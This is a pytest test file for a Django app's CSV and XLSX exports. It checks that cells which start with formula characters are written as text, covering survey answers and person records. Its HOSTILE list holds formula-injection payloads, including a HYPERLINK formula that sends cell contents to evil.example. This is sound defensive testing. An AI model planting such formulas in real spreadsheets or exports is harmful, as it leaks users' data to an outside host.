"""Every CSV and XLSX export shows a typed cell as text, never as a formula a spreadsheet runs."""

import csv
import io

import pytest
import tablib
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from network.exports import to_csv
from network.exports import to_xlsx
from network.models import Person
from network.resources import PersonResource
from tests.factories import PersonFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text_in_csv_and_xlsx(value):
    rows = list(csv.reader(io.StringIO(to_csv(["Respuesta"], [[value], ["Bien"], [3]]).decode("utf-8-sig"))))
    assert rows == [["Respuesta"], ["'" + value], ["Bien"], ["3"]]
    sheet = load_workbook(io.BytesIO(to_xlsx(["Respuesta"], [[value], [3]], title="t"))).active
    cell = sheet["A2"]
    assert cell.value.startswith("'") and cell.data_type == "s"  # text, not a formula
    assert sheet["A3"].value == 3  # numbers stay numbers


def test_an_anonymous_survey_answer_comes_out_of_the_results_csv_as_text(admin_client, quito, focal):
    from events.models import Registration
    from events.services.surveys import survey_links_sweep
    from events.services.surveys import survey_submit
    from network.models import OutboxMessage
    from tests.events.factories import EventFactory
    from tests.events.factories import questionnaire_for
    from tests.factories import technician_of

    event = EventFactory(past=True, ends_at=timezone.now())
    Registration.objects.create(event=event, member=quito, person=technician_of(quito).person)
    questionnaire = questionnaire_for(event)
    survey_links_sweep(now=timezone.now())
    questions = list(questionnaire.questions.all())
    token = OutboxMessage.objects.get(topic="survey-link").text.split("/surveys/")[1].split("/")[0]
    survey_submit(token=token, answers={questions[0].pk: 4, questions[1].pk: "Sí", questions[3].pk: HOSTILE[0]})
    response = admin_client.get(reverse("admin:events_questionnaire_results_csv", args=[questionnaire.pk]))
    body = response.content.decode("utf-8-sig")
    assert "'" + HOSTILE[0].replace('"', '""') in body
    assert not any(line.startswith(("=", '"=')) for line in body.splitlines())


def test_the_people_export_neutralises_formulae_and_reimporting_it_gives_back_what_was_stored():
    PersonFactory(email="ana@quito.gob.ec", first_name="=Ana", position="-Directora")
    dataset = PersonResource().export()
    row = dict(zip(dataset.headers, dataset[0]))
    assert (row["first_name"], row["position"]) == ("'=Ana", "'-Directora")
    result = PersonResource().import_data(tablib.Dataset(*dataset, headers=dataset.headers), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert Person.objects.values_list("first_name", "position").get() == ("=Ana", "-Directora")
